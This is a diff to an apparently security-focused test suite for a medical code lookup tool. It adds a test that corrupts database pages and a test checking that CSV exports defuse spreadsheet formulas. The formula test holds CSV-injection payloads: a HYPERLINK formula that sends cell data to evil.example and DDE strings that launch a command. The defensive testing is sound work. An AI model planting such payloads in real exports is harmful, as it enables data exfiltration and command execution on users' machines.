@@ -13,6 +13,8 @@ the named tests and report whether they passed. The exit status is the number of
 from __future__ import annotations
 
 import argparse
+import csv
+import io
 import os
 import shutil
 import sqlite3
@@ -249,6 +251,99 @@ def hostile_labels(folder: Path) -> Row:
     results = [medcode("import", str(ZIP_2019), "--label", label, db=db) for label in labels]
     row.observed = " | ".join(described(r) for r in results)
     row.passed = all(one_sentence(r) for r in results) and release_labels(db) == release_labels(starter_db(folder))
+    return row
+
+
+def damage_pages(db: Path, fractions: tuple[float, ...] = (0.3, 0.45, 0.6, 0.75)) -> None:
+    """Overwrite a 4 KB page at each fraction of the file with random bytes (the header page stays valid)."""
+    size = db.stat().st_size
+    with db.open("r+b") as handle:
+        for fraction in fractions:
+            handle.seek(max(4096, int(size * fraction) // 4096 * 4096))
+            handle.write(os.urandom(4096))
+
+
+@attack
+def damaged_pages(folder: Path) -> Row:
+    row = Row(
+        "a database with damaged pages inside: searches, lookups, import, the window's smoke test",
+        "each answers as the whole file does, or says in one sentence the file is damaged; import refuses",
+    )
+    whole = db_with_2019(folder)
+    queries = [["search", "wheelchair"], ["search", "injection"], ["lookup", "J1100"], ["search", "E01*"]]
+    expected = [medcode(*query, db=whole).out for query in queries]
+    damaged = folder / "damaged.sqlite"
+    shutil.copyfile(whole, damaged)
+    damage_pages(damaged)
+    answers = [medcode(*query, db=damaged) for query in queries]
+    silent = [q for q, a, e in zip(queries, answers, expected, strict=True) if a.status == 0 and a.out != e]
+    loud = [a for a in answers if a.status != 0]
+    imported = medcode("import", str(ZIP_2018), db=damaged)
+    smoke = run([sys.executable, "-m", "medcode_gui.gui.app", "--db", str(damaged), "--smoke-test"])
+    row.observed = (
+        f"{len(queries)} reads: {len(answers) - len(loud) - len(silent)} answered as the whole file, "
+        f"{len(loud)} said {loud[0].message[:70] if loud else '-'!r}, {len(silent)} answered wrongly; "
+        f"import: {described(imported)}; smoke test: {described(smoke)}"
+    )
+    row.passed = (
+        not silent
+        and all(one_sentence(a) for a in loud)
+        and one_sentence(imported)
+        and not smoke.traceback
+        and (smoke.status == 0 or one_sentence(smoke))  # the smoke test may not meet a damaged page
+    )
+    return row
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
+EVIL_CODES = ["K0801", "K0802", "K0803", "K0804"]
+
+
+def evil_release(folder: Path, name: str, suffix: str) -> Path:
+    """A custom code list whose descriptors are spreadsheet formulas (each differs by suffix between releases)."""
+    path = folder / name
+    with path.open("w", encoding="utf-8", newline="") as out:
+        writer = csv.writer(out)
+        writer.writerow(["code", "description"])
+        writer.writerows([code, formula + suffix] for code, formula in zip(EVIL_CODES, FORMULAS, strict=True))
+    return path
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of a CSV text a spreadsheet would run as a formula (a plain number like -0.5 is not one)."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@attack
+def formulas_in_exports(folder: Path) -> Row:
+    row = Row("descriptors that are spreadsheet formulas, in every CSV export", "no cell a spreadsheet would run")
+    db, user = starter_db(folder), {"MEDCODE_USER_DB": str(folder / "user.sqlite")}
+    for label, day, suffix in (("EVIL-1", "2020-01-01", ""), ("EVIL-2", "2020-02-01", " changed")):
+        path = evil_release(folder, f"{label}.csv", suffix)
+        medcode("import", str(path), "--label", label, "--effective", day, db=db)
+    medcode("list", "create", "evil", db=db, **user)
+    medcode("list", "add", "evil", *EVIL_CODES, db=db, **user)
+    exports = {
+        "list export": medcode("list", "export", "evil", db=db, **user),
+        "compare --csv": medcode("compare", *EVIL_CODES, "--csv", db=db),
+        "diff --csv": medcode("diff", "EVIL-1", "EVIL-2", "--csv", db=db),
+    }
+    found = {name: formula_cells(result.out) for name, result in exports.items()}
+    evil_seen = {name: sum(formula[1:8] in result.out for formula in FORMULAS) for name, result in exports.items()}
+    row.observed = "; ".join(
+        f"{name}: exit {exports[name].status}, {evil_seen[name]} formulas exported, {len(cells)} left live"
+        for name, cells in found.items()
+    )
+    row.passed = all(exports[name].status == 0 and evil_seen[name] and not cells for name, cells in found.items())
     return row
 
 
